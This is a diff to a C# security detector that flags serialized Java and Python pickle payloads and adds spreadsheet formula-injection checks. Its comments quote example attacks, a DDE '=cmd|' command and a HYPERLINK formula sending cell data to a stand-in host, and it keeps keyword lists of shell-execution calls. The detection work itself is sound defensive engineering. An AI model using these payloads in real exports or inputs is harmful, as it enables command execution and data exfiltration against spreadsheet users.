@@ -55,11 +55,16 @@ internal static class CodeDetector
 
     public static void Detect(scoped ReadOnlySpan<char> t, ValueSource source, ref FindingSink sink)
     {
-        // A serialized Java object in base64 ("rO0AB...", the stream magic AC ED 00 05): a deserialization gadget carrier.
-        if (t.StartsWith("ro0ab") || t.StartsWith("\"ro0ab") || t.StartsWith("aced0005"))
+        // A serialized Java object in base64 ("rO0AB...", the stream magic AC ED 00 05), a Python pickle in base64 ("gASV...",
+        // protocol 4 and 5) or in text protocol 0 naming a command module ("cos\nsystem\n(S'id'..."): deserialization carriers.
+        if (t.StartsWith("ro0ab") || t.StartsWith("\"ro0ab") || t.StartsWith("aced0005") || t.StartsWith("gasv")
+            || (t.StartsWith('c') && (t[1..].StartsWith("os\n") || t[1..].StartsWith("posix\n") || t[1..].StartsWith("nt\n") || t[1..].StartsWith("subprocess\n")
+                || t[1..].StartsWith("builtins\n") || t[1..].StartsWith("__builtin__\n"))))
         {
             sink.Add(RuleKey.CodeUnsafeDeserialization, 0, t.Length);
         }
+
+        FormulaInjection(t, ref sink);
 
         if (!sink.Chars.HasAny(s_gateMask, t, s_gate))
         {
@@ -92,6 +97,48 @@ internal static class CodeDetector
         ["subprocess.call(", "subprocess.popen(", "subprocess.run(", "subprocess.check_output(", "subprocess.getoutput(", "os.system(", "os.popen(",
          "os.exec", "pty.spawn(", "__import__(", "__builtins__", "!!python/", "!!javax.", "!!java.", "!!com.sun.", "!!org.", "class.module.classloader",
          "class.classloader"]);
+
+    /// <summary>
+    /// Spreadsheet formula injection in a value that a CSV or spreadsheet export will hold: a DDE command ("=cmd|' /c calc'!A0",
+    /// "+cmd|...", "@SUM(1+1)*cmd|...") or a formula that sends data out ("=HYPERLINK(\"http://x/?\"&amp;A1)", "=IMPORTXML(...)",
+    /// "=WEBSERVICE(...)"). "=SUM(A1:A3)" computes and stays.
+    /// </summary>
+    private static void FormulaInjection(scoped ReadOnlySpan<char> t, ref FindingSink sink)
+    {
+        var v = t.TrimStart(" \t'\"");
+        if (v.IsEmpty || v[0] is not ('=' or '+' or '-' or '@'))
+        {
+            return;
+        }
+
+        var dde = v.IndexOf('|');
+        if (dde > 0 && dde < 64)
+        {
+            var app = v[..dde].TrimStart("=+-@ ");
+            var start = app.Length;
+            while (start > 0 && char.IsAsciiLetterOrDigit(app[start - 1]))
+            {
+                start--;
+            }
+
+            if (app[start..] is "cmd" or "msexcel" or "powershell" or "pwsh" or "mshta" or "rundll32" or "regsvr32" or "certutil" or "bitsadmin")
+            {
+                sink.Add(RuleKey.CodeFormulaInjection, 0, dde + 1);
+                return;
+            }
+        }
+
+        if (v[0] == '=' && v.Length > 6)
+        {
+            var f = v[1..].TrimStart();
+            if ((f.StartsWith("hyperlink(") || f.StartsWith("importxml(") || f.StartsWith("importdata(") || f.StartsWith("importhtml(")
+                    || f.StartsWith("importfeed(") || f.StartsWith("importrange(") || f.StartsWith("webservice(") || f.StartsWith("image("))
+                && f.Contains("http", StringComparison.Ordinal) && (f.Contains('&') || f.Contains("concat", StringComparison.Ordinal)))
+            {
+                sink.Add(RuleKey.CodeFormulaInjection, 0, t.Length);
+            }
+        }
+    }
 
     /// <summary>JSON prototype pollution through the constructor: {"constructor": {"prototype": {...}}}.</summary>
     private static void ConstructorPrototype(scoped ReadOnlySpan<char> t, ref FindingSink sink)
